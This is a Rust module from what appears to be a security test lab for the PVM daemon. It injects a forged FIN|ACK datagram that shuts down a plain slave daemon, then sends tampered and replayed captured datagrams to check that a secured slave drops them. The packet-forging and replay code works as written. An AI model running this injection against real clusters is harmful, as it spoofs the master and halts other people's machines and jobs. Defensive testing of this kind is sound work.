//! What an attacker can do who is on the same network and knows the master's address and port.

use std::thread::sleep;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, ensure};
use secpvm::lab::{Lab, packet::Datagram, pcap::Frame};
use secpvm::log::Dropped;

use super::wire::datagrams;

/// The slave logs drops at most once a second.
const PATIENCE: Duration = Duration::from_secs(4);
/// How many captured datagrams are sent again.
const REPLAYS: usize = 10;

/// PVM's datagram header, 16 bytes, all big-endian: destination tid 4, source tid 4, sequence 2,
/// acknowledgement 2, flags 1, zero 3. From the master to the daemon of the second host, with the
/// flags FIN and ACK, it says: the machine is being halted.
const FIN_ACK: [u8; 16] = [
    0x80,
    0x08,
    0,
    0,
    0x80,
    0x04,
    0,
    0,
    0,
    0,
    0,
    0,
    0x08 | 0x10,
    0,
    0,
    0,
];

/// Send one forged FIN|ACK to the slave of a plain machine. Returns whether it died of it.
///
/// # Errors
/// The capture shows no datagram from master to slave, or the packet can't be sent.
pub fn kill_plain(lab: &Lab, frames: &[Frame]) -> Result<bool> {
    let captured = master_to_slave(lab, frames)?;
    ensure!(
        lab.host("host2").has_pvmd()?,
        "the slave is gone before the attack"
    );
    send(lab, &[forged(&captured[0])])?;
    let end = Instant::now() + PATIENCE;
    while lab.host("host2").has_pvmd()? {
        if Instant::now() > end {
            return Ok(false);
        }
        sleep(Duration::from_millis(50));
    }
    Ok(true)
}

/// Send the slave of a secured machine a forged FIN|ACK and a captured datagram with one bit
/// changed. Returns how many of the two it dropped as what they are.
///
/// # Errors
/// As for [`kill_plain`].
pub fn forge(lab: &Lab, frames: &[Frame]) -> Result<u64> {
    let captured = master_to_slave(lab, frames)?;
    let mut altered = captured[0].clone();
    *altered
        .payload
        .last_mut()
        .context("a datagram without content")? ^= 1;
    let count = |dropped: Dropped| dropped.forged + dropped.malformed;
    dropped_of(lab, &[forged(&captured[0]), altered], count)
}

/// Send the slave of a secured machine the last datagrams that its master sent it, once more.
/// Returns how many it dropped as replayed.
///
/// # Errors
/// As for [`kill_plain`].
pub fn replay(lab: &Lab, frames: &[Frame]) -> Result<u64> {
    let captured = master_to_slave(lab, frames)?;
    let last = &captured[captured.len().saturating_sub(REPLAYS)..];
    dropped_of(lab, last, |dropped| dropped.replayed)
}

/// Whether the slave runs, and a program on it comes to its right result.
///
/// # Errors
/// The host can't be entered.
pub fn slave_alive(lab: &Lab) -> Result<bool> {
    let workload = lab
        .host("host1")
        .command("workload")
        .args(["-n", "50"])
        .output()?;
    Ok(workload.status.success() && lab.host("host2").has_pvmd()?)
}

fn master_to_slave(lab: &Lab, frames: &[Frame]) -> Result<Vec<Datagram>> {
    let (master, slave) = (lab.host("host1").address(), lab.host("host2").address());
    let captured = datagrams(frames, master, slave);
    ensure!(
        !captured.is_empty(),
        "no datagram from master to slave was captured"
    );
    Ok(captured)
}

fn forged(captured: &Datagram) -> Datagram {
    Datagram {
        payload: FIN_ACK.to_vec(),
        ..*captured
    }
}

fn send(lab: &Lab, datagrams: &[Datagram]) -> Result<()> {
    let mut injector = lab.injector()?;
    for datagram in datagrams {
        injector.send(datagram)?;
    }
    injector.finish()
}

/// How much a count of drops in the slave's log grows by these datagrams, at most one for each.
fn dropped_of(lab: &Lab, datagrams: &[Datagram], count: impl Fn(Dropped) -> u64) -> Result<u64> {
    let slave = lab.host("host2");
    let before = count(slave.dropped());
    send(lab, datagrams)?;
    let (sent, end) = (u64::try_from(datagrams.len())?, Instant::now() + PATIENCE);
    loop {
        let dropped = count(slave.dropped()) - before;
        if dropped >= sent || Instant::now() > end {
            return Ok(dropped);
        }
        sleep(Duration::from_millis(50));
    }
}
